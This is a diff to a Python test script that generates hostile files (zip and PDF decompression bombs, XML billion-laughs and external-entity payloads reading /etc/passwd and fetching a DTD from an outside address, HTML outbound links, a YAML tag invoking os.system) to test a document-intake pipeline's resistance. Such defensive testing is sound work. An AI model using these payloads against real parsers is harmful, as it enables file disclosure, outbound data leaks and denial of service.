@@ -17,18 +17,29 @@ import time
 import zipfile
 import zlib
 from collections.abc import Iterator
-from typing import Any, NoReturn
+from typing import Any, NamedTuple, NoReturn
 
 from tests.intake.measure import ARTICLES
 from tests.intake.writers import WRITERS, layout, zipped
 
-_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
-_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "http://203.0.113.9/x.dtd"> %out;]>'
+_LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "ha">'
+    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
+    + "]>"
+)
+_FILE_ENTITY = (
+    '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "http://203.0.113.9/x.dtd"> %out;]>'
+)
 _TEXT = "The ferry sailed again on Monday, the harbour office said. Nobody was hurt, and the boat was full. "
 
 
-def files() -> Iterator[tuple[str, bytes]]:
+_SIZE = 1  # how many times the ordinary size; see --size
+
+
+def files(size: int = 1) -> Iterator[tuple[str, bytes]]:
     """Name and bytes of each file."""
+    global _SIZE
+    _SIZE = size
     yield from _damaged()
     yield from _zips()
     yield from _pdfs()
@@ -62,7 +73,23 @@ def _damaged() -> Iterator[tuple[str, bytes]]:
         yield f"changed-{number}.html", bytes(data)
 
 
-def _zip_with(form: str, main: bytes) -> bytes:
+class _Zeros(NamedTuple):
+    """Many bytes that are not kept in memory."""
+
+    size: int
+    unit: bytes = b"0"
+
+    def pieces(self) -> Iterator[bytes]:
+        piece = self.unit * (100_000 // len(self.unit))
+        for _ in range(self.size // len(piece)):
+            yield piece
+
+    def packed(self) -> bytes:
+        packer = zlib.compressobj(9)
+        return b"".join([packer.compress(piece) for piece in self.pieces()]) + packer.flush()
+
+
+def _zip_with(form: str, main: bytes | _Zeros) -> bytes:
     """A document of a zipped format whose main part holds these bytes."""
     if form == "docx":
         return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": main})
@@ -79,13 +106,13 @@ def _zip_with(form: str, main: bytes) -> bytes:
 
 def _zips() -> Iterator[tuple[str, bytes]]:
     for form in ("docx", "odt", "epub"):
-        yield f"bomb-zeros.{form}", _zip_with(form, b"0" * 90_000_000)
-        yield f"bomb-text.{form}", _zip_with(form, b"<p>" + b"word " * 9_000_000 + b"</p>")
+        yield f"bomb-zeros.{form}", _zip_with(form, _Zeros(20_000_000))
+        yield f"bomb-text.{form}", _zip_with(form, _Zeros(20_000_000, b"word "))
         yield f"laughs.{form}", _zip_with(form, (_LAUGHS + "<x>&i;</x>").encode())
         yield f"file-entity.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode())
         yield f"file-entity-16.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode("utf-16"))
         yield f"deep.{form}", _zip_with(form, b"<p>" * 20_000 + b"x" + b"</p>" * 20_000)
-        yield f"wide.{form}", _zip_with(form, b"<x>" + b"<p>a</p>" * 60_000 + b"</x>")
+        yield f"wide.{form}", _zip_with(form, b"<x>" + b"<p>a</p>" * (12_000 * _SIZE) + b"</x>")
         yield f"empty-xml.{form}", _zip_with(form, b"")
         yield f"broken-xml.{form}", _zip_with(form, b"<p><b>words</p>")
         yield f"attribute.{form}", _zip_with(form, b'<p a="' + b"x" * 2_000_000 + b'">words</p>')
@@ -105,7 +132,12 @@ def _zips() -> Iterator[tuple[str, bytes]]:
     inner = io.BytesIO()
     with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("a", b"0" * 10_000_000)
-    yield "zip-in-zip.docx", zipped({f"word/{number}.zip": inner.getvalue() for number in range(50)} | {"word/document.xml": "<p>words</p>"})
+    yield (
+        "zip-in-zip.docx",
+        zipped(
+            {f"word/{number}.zip": inner.getvalue() for number in range(50)} | {"word/document.xml": "<p>words</p>"}
+        ),
+    )
 
 
 def _lying(data: bytes) -> bytes:
@@ -134,7 +166,9 @@ def _pdf_of(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
     for number, item in enumerate(objects, 1):
         places.append(len(out))
         out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
-    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
+    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
+        b"%010d 00000 n \n" % place for place in places
+    )
     return out + table + b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(out))
 
 
@@ -146,16 +180,26 @@ def _pdfs() -> Iterator[tuple[str, bytes]]:
         return b"<< /Length %d %s >> stream\n" % (len(content), extra) + content + b"\nendstream"
 
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << >> >>"
-    bomb = zlib.compress(b"0" * 150_000_000, 9)
+    bomb = _Zeros(150_000_000).packed()
     yield "stream-bomb.pdf", _pdf_of(catalogue, one, page, stream(bomb, b"/Filter /FlateDecode"))
-    yield "double-bomb.pdf", _pdf_of(catalogue, one, page, stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]"))
-    yield "hex-flood.pdf", _pdf_of(catalogue, one, page, stream(b"<" + b"41" * 2_000_000 + b"> Tj"))
-    yield "tj-flood.pdf", _pdf_of(catalogue, one, page, stream(b"BT /F1 9 Tf " + b"(a) Tj " * 150_000 + b"ET"))
-    yield "q-flood.pdf", _pdf_of(catalogue, one, page, stream(b"q " * 300_000))
+    yield (
+        "double-bomb.pdf",
+        _pdf_of(catalogue, one, page, stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]")),
+    )
+    yield "hex-flood.pdf", _pdf_of(catalogue, one, page, stream(b"<" + b"41" * (400_000 * _SIZE) + b"> Tj"))
+    yield "tj-flood.pdf", _pdf_of(catalogue, one, page, stream(b"BT /F1 9 Tf " + b"(a) Tj " * (20_000 * _SIZE) + b"ET"))
+    yield "q-flood.pdf", _pdf_of(catalogue, one, page, stream(b"q " * (60_000 * _SIZE)))
     yield "array-deep.pdf", _pdf_of(catalogue, one, page, stream(b"[" * 50_000))
     yield "dict-deep.pdf", _pdf_of(b"<< /A " * 5_000 + b">>" * 5_000, one, page, stream(b""))
     yield "kids-loop.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
-    yield "parent-loop.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")
+    yield (
+        "parent-loop.pdf",
+        _pdf_of(
+            catalogue,
+            b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
+        ),
+    )
     yield "count-lie.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 999999999 >>")
     yield "no-pages.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 0 >>")
     yield "contents-loop.pdf", _pdf_of(catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents [3 0 R 3 0 R] >>")
@@ -166,10 +210,30 @@ def _pdfs() -> Iterator[tuple[str, bytes]]:
         stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>"),
     )  # fmt: skip
     yield "prev-loop.pdf", _pdf_of(catalogue, one, page, stream(b""), trailer=b"/Root 1 0 R /Prev 9")
-    yield "encrypted.pdf", _pdf_of(catalogue, one, page, stream(b""), trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 /Length 128 >> /ID [(a)(b)]")
+    yield (
+        "encrypted.pdf",
+        _pdf_of(
+            catalogue,
+            one,
+            page,
+            stream(b""),
+            trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 /Length 128 >> /ID [(a)(b)]",
+        ),
+    )
     yield "no-root.pdf", _pdf_of(catalogue, trailer=b"")
-    yield "many-pages.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [" + b"3 0 R " * 5_000 + b"] /Count 5000 >>", page, stream(b""))
-    yield "link-out.pdf", _pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://203.0.113.9/) >> >>", one, page, stream(b"BT /F1 9 Tf (words) Tj ET"))
+    yield (
+        "many-pages.pdf",
+        _pdf_of(catalogue, b"<< /Type /Pages /Kids [" + b"3 0 R " * 5_000 + b"] /Count 5000 >>", page, stream(b"")),
+    )
+    yield (
+        "link-out.pdf",
+        _pdf_of(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://203.0.113.9/) >> >>",
+            one,
+            page,
+            stream(b"BT /F1 9 Tf (words) Tj ET"),
+        ),
+    )
     yield "outside-file.pdf", _pdf_of(catalogue, one, page, b"<< /Length 0 /F (/etc/passwd) >> stream\n\nendstream")
     yield "only-header.pdf", b"%PDF-1.7"
     yield "header-flood.pdf", b"%PDF-1.7\n" * 100_000
@@ -189,25 +253,46 @@ def _html() -> Iterator[tuple[str, bytes]]:
     yield "deep-300.html", page("<div>" * 300 + words + "</div>" * 300)
     yield "deep-inline.html", page("<b><i>" * 5_000 + words)
     yield "deep-tables.html", page("<table><tr><td>" * 2_000 + words)
-    yield "wide.html", page("<p>short words here</p>" * 60_000)
-    yield "wide-same.html", page(words * 3_000)
-    yield "wide-links.html", page('<a href="/x">to elsewhere</a> ' * 40_000)
-    yield "one-paragraph.html", page("<p>" + _TEXT * 18_000 + "</p>")
+    yield "wide.html", page("<p>short words here</p>" * (12_000 * _SIZE))
+    yield "wide-same.html", page(words * (600 * _SIZE))
+    yield "wide-links.html", page('<a href="/x">to elsewhere</a> ' * (8_000 * _SIZE))
+    yield "one-paragraph.html", page("<p>" + _TEXT * (3_600 * min(_SIZE, 5)) + "</p>")
     yield "too-large.html", page("<p>" + _TEXT * 25_000 + "</p>")
-    yield "breaks.html", page("words<br>" * 150_000)
+    yield "breaks.html", page("words<br>" * (30_000 * _SIZE))
     yield "attribute.html", page(f'<p class="{"x" * 1_500_000}">{_TEXT}</p>')
     yield "classes.html", page(f'<div class="{"ad-nav-share " * 50_000}">{words}</div>')
-    yield "unclosed.html", page("<p><a><b><span>" * 20_000)
-    yield "brackets.html", page("<" * 500_000)
-    yield "entities.html", page("&amp;" * 200_000 + "&#x110000;&#99999999;&nosuch;" * 1_000)
+    yield "unclosed.html", page("<p><a><b><span>" * (4_000 * _SIZE))
+    yield "brackets.html", page("<" * (100_000 * _SIZE))
+    yield "entities.html", page("&amp;" * (40_000 * _SIZE) + "&#x110000;&#99999999;&nosuch;" * 1_000)
     yield "laughs.html", (_LAUGHS + f"<html><body><p>&i;</p>{words}</body></html>").encode()
     yield "file-entity.html", (_FILE_ENTITY + f"<html><body><p>&secret;</p>{words}</body></html>").encode()
-    yield "links-out.html", page('<iframe src="file:///etc/passwd"></iframe><img src="http://203.0.113.9/x"><object data="http://203.0.113.9/"></object>' + words, '<base href="http://203.0.113.9/"><link rel="stylesheet" href="http://203.0.113.9/x.css"><meta http-equiv="refresh" content="0;url=http://203.0.113.9/">')
+    yield (
+        "links-out.html",
+        page(
+            '<iframe src="file:///etc/passwd"></iframe><img src="http://203.0.113.9/x"><object data="http://203.0.113.9/"></object>'
+            + words,
+            '<base href="http://203.0.113.9/"><link rel="stylesheet" href="http://203.0.113.9/x.css"><meta http-equiv="refresh" content="0;url=http://203.0.113.9/">',
+        ),
+    )
     yield "include.html", page('<xi:include href="file:///etc/passwd" parse="text"/>' + words)
     yield "script.html", page(words, "<script>" + "x(" * 300_000 + "</script>")
     yield "ld-deep.html", page(words, '<script type="application/ld+json">' + "[" * 100_000 + "</script>")
-    yield "ld-wide.html", page(words, '<script type="application/ld+json">' + json.dumps([{"@type": "NewsArticle", "author": [{"name": "x" * 900}] * 200}] * 5) + "</script>")
-    yield "ld-types.html", page(words, '<script type="application/ld+json">{"@type": ["NewsArticle", 3, null], "headline": 5, "author": {"name": [[]]}, "datePublished": {}, "articleSection": [null]}</script>')
+    yield (
+        "ld-wide.html",
+        page(
+            words,
+            '<script type="application/ld+json">'
+            + json.dumps([{"@type": "NewsArticle", "author": [{"name": "x" * 900}] * 200}] * 5)
+            + "</script>",
+        ),
+    )
+    yield (
+        "ld-types.html",
+        page(
+            words,
+            '<script type="application/ld+json">{"@type": ["NewsArticle", 3, null], "headline": 5, "author": {"name": [[]]}, "datePublished": {}, "articleSection": [null]}</script>',
+        ),
+    )
     yield "nul.html", page("<p>wor\x00ds " + _TEXT * 4 + "</p>")
     yield "charset-unknown.html", page(words, '<meta charset="no-such-charset">')
     yield "charset-utf7.html", page("<p>+ADw-script+AD4-</p>" + words, '<meta charset="utf-7">')
@@ -229,11 +314,14 @@ def _markdown() -> Iterator[tuple[str, bytes]]:
         "ticks": "`", "quotes": "> ", "hashes": "#", "comments": "<!--", "tags": "<a ", "ampersands": "&a", "escapes": "\\", "bullets": "- ", "star-words": "*a ",
         "pairs": "**a** ", "nested-links": "[[a](b)](c) ", "references": "[a]: b\n", "rules": "---\n", "fences": "```\n", "numbers": "1. ", "pipes": "|",
     }.items():  # fmt: skip
-        yield f"{name}.md", ("# A heading\n\n" + unit * (300_000 // len(unit)) + "\n\n" + _TEXT).encode()
+        yield f"{name}.md", ("# A heading\n\n" + unit * (60_000 * _SIZE // len(unit)) + "\n\n" + _TEXT).encode()
     yield "front-matter-open.md", ("---\n" + "a: b\n" * 50_000).encode()
     yield "front-matter-deep.md", ("---\ntitle: " + "[" * 5_000 + "]" * 5_000 + "\n---\n" + _TEXT).encode()
-    yield "front-matter-alias.md", ("---\na: &a [x]\nb: *a\ntitle: !!python/object/apply:os.system ['true']\n---\n" + _TEXT).encode()
-    yield "line.md", (_TEXT * 20_000).encode()
+    yield (
+        "front-matter-alias.md",
+        ("---\na: &a [x]\nb: *a\ntitle: !!python/object/apply:os.system ['true']\n---\n" + _TEXT).encode(),
+    )
+    yield "line.md", (_TEXT * (600 * _SIZE)).encode()
 
 
 def _texts() -> Iterator[tuple[str, bytes]]:
@@ -244,7 +332,7 @@ def _texts() -> Iterator[tuple[str, bytes]]:
         "notes": "Ana Petrov is a writer.\n\n", "related": "Related\nlink\n", "dates": "May 4, 2031\n", "marks": "a\u0301\u0300", "soft": "so\u00adft ", "zero": "\u200b", "rtl": "\u202eabc ",
         "emoji": "👩‍👩‍👧‍👦 ", "url": "https://a.example/?", "at": "a@", "hyphens": "a-", "stops": "a.b.", "commas": "a, ", "according": "according to ", "sources": "a source said ",
     }.items():  # fmt: skip
-        yield f"{name}.txt", (unit * (300_000 // len(unit))).encode()
+        yield f"{name}.txt", (unit * (60_000 * _SIZE // len(unit))).encode()
     yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 words"
     yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf words"
     yield "too-large.txt", b"word " * 1_100_000
@@ -257,7 +345,7 @@ def _texts() -> Iterator[tuple[str, bytes]]:
 
 def _rich_text() -> Iterator[tuple[str, bytes]]:
     for name, code in {
-        "deep": "{" * 50_000, "unicode": "\\u9999?" * 30_000, "bin": "\\bin999999999 x", "hex": "\\'e9" * 50_000, "picture": "{\\pict " + "ab" * 2_000_000 + "}",
+        "deep": "{" * 50_000, "unicode": "\\u9999?" * (6_000 * _SIZE), "bin": "\\bin999999999 x", "hex": "\\'e9" * (10_000 * _SIZE), "picture": "{\\pict " + "ab" * 2_000_000 + "}",
         "control": "\\" + "a" * 300_000, "numbers": "\\fs99999999999999999999 words", "negative": "\\u-99999? words", "stars": "{\\*\\x" * 300 + "}" * 300, "link": '{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt words}}',
     }.items():  # fmt: skip
         yield f"{name}.rtf", ("{\\rtf1\\ansi " + code + " words}").encode()
@@ -275,7 +363,10 @@ def _mail() -> Iterator[tuple[str, bytes]]:
     yield "encoded.eml", b"Subject: " + b"=?utf-8?q?=41?= " * 5_000 + b"\r\n\r\nwords"
     yield "charset.eml", head + b"Content-Type: text/plain; charset=no-such\r\n\r\nw\xf6rds and words"
     yield "charset-zip.eml", head + b"Content-Type: text/plain; charset=zip\r\n\r\nwords and words"
-    yield "base64.eml", head + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"!!!not base64" * 1_000
+    yield (
+        "base64.eml",
+        head + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"!!!not base64" * 1_000,
+    )
     yield "bad-date.eml", head + b"Date: Thu, 99 Foo 99999 99:99:99 +99999\r\n\r\nwords and words"
     yield "only-attachment.eml", head + b"Content-Disposition: attachment\r\nContent-Type: text/plain\r\n\r\nwords"
     yield "html.eml", head + b"Content-Type: text/html\r\n\r\n" + layout("plain.html", ARTICLES[0])
@@ -296,8 +387,8 @@ def _tables() -> Iterator[tuple[str, bytes]]:
     yield "broken.jsonl", b'{"text": "words"}\n{"text": \nnull\n[1]\n{}\n\xff\xfe\n{"text": "words"}\n'
     yield "deep.jsonl", b'{"text":' * 50_000 + b"\n"
     yield "long-line.jsonl", b'{"text": "' + b"a" * 21_000_000 + b'"}\n{"text": "words"}\n'
-    yield "quote.csv", b'text\n"' + b"a,b\n" * 500_000
-    yield "columns.csv", b"a," * 100_000 + b"text\n" + b"1," * 100_000 + b"words\n"
+    yield "quote.csv", b'text\n"' + b"a,b\n" * (20_000 * _SIZE)
+    yield "columns.csv", b"a," * (20_000 * _SIZE) + b"text\n" + b"1," * (20_000 * _SIZE) + b"words\n"
     yield "nul.csv", b"text\nwor\x00ds\n"
     yield "no-text.csv", b"a,b\n1,2\n"
     yield "short-rows.csv", b"text,title\nwords\nwords,a,b,c,d\n\n"
@@ -324,7 +415,7 @@ def _megabytes() -> int:
     return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * scale // 1_000_000
 
 
-def run(*, whole: bool = True, only: str = "") -> dict[str, Any]:
+def run(*, whole: bool = True, only: str = "", size: int = 1) -> dict[str, Any]:
     """Read every file and send what it holds through the pipeline (or only through the blocks); what came of it."""
     from caveat.annotate.blocks import classify
     from caveat.annotate.metadata import complete
@@ -342,7 +433,7 @@ def run(*, whole: bool = True, only: str = "") -> dict[str, Any]:
     outcomes = {"read": 0, "refused": 0}
     leaked: list[str] = []
     memory: list[tuple[int, str]] = []
-    for name, data in files():
+    for name, data in files(size):
         if only and only not in name:
             continue
         reading = working = 0.0
@@ -380,5 +471,6 @@ if __name__ == "__main__":
     arguments = argparse.ArgumentParser(description=__doc__)
     arguments.add_argument("--blocks-only", action="store_true", help="leave out everything behind the blocks")
     arguments.add_argument("--only", default="", help="part of the names of the files to try")
+    arguments.add_argument("--size", type=int, default=1, help="how many times the ordinary size (5: up to the limits)")
     chosen = arguments.parse_args()
-    print(json.dumps(run(whole=not chosen.blocks_only, only=chosen.only), indent=1))
+    print(json.dumps(run(whole=not chosen.blocks_only, only=chosen.only, size=chosen.size), indent=1))
